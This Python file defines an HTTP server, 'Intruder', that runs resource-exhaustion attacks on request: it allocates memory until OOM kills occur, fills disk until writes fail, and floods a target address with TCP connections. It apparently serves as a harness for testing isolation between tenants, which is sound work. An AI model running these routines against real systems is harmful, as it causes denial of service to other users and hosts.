"""A malicious function: POST /NAME with the arguments of one of its attacks as a JSON object."""

from __future__ import annotations

import json
import mmap
import os
import socket
from collections import deque
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import NoReturn

import probes

MIB = 1024 * 1024
PIECE_BYTES = 32 * MIB
BLOCK_BYTES = 4 * MIB
CONNECTED, HELD = 1000, 200


def fill_memory() -> dict[str, int]:
    """Take memory until the kernel ends who takes it: how often it has done that, by what signal.

    The kernel itself touches the pages: no page of this program is needed meanwhile.
    """
    before = _oom_kills()
    child = os.fork()
    if child == 0:
        _take_memory()
    _, status = os.waitpid(child, 0)
    return {"signal": os.WTERMSIG(status), "kills": _oom_kills() - before}


def _take_memory() -> NoReturn:
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE
    taken = []
    try:
        while True:
            taken.append(mmap.mmap(-1, PIECE_BYTES, flags=flags))
    finally:
        os._exit(1)


def _oom_kills() -> int:
    counters = dict(line.split() for line in Path("/proc/vmstat").read_text().splitlines())
    return int(counters["oom_kill"])


def fill_disk() -> dict[str, int]:
    """Write past the page cache until there is no room: the error, and how many bytes."""
    block = mmap.mmap(-1, BLOCK_BYTES)
    block.write(os.urandom(BLOCK_BYTES))
    descriptor = os.open("/var/tmp/full", os.O_WRONLY | os.O_CREAT | os.O_DIRECT, 0o600)
    written = failed = 0
    try:
        while True:
            written += os.write(descriptor, block)
    except OSError as error:
        failed = error.errno or 0
    os.close(descriptor)
    os.unlink("/var/tmp/full")
    return {"errno": failed, "bytes": written}


def flood(address: str, count: int) -> dict[str, int]:
    """Begin so many TCP connections, a few by `connect`, the others by what that sends."""
    begun = min(count, CONNECTED)
    held: deque[socket.socket] = deque()
    for number in range(begun):
        connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        connection.connect_ex((address, 1 + number))
        held.append(connection)
        if len(held) > HELD:
            held.popleft().close()
    for connection in held:
        connection.close()
    return {"begun": begun + probes.send_first_segments(address, count - begun)}


ATTACKS = {
    "reach": probes.reach,
    "ask_arp": probes.ask_arp,
    "send_strays": probes.send_strays,
    "fill_memory": fill_memory,
    "fill_disk": fill_disk,
    "flood": flood,
}


class Intruder(BaseHTTPRequestHandler):
    """GET says that it lives."""

    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        """Answer."""
        self._answer({"intruder": "lives"})

    def do_POST(self) -> None:
        """Attack."""
        given = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self._answer(ATTACKS[self.path[1:]](**given))

    def _answer(self, found: object) -> None:
        body = json.dumps(found).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


if __name__ == "__main__":
    ThreadingHTTPServer(("", int(os.environ["PORT"])), Intruder).serve_forever()
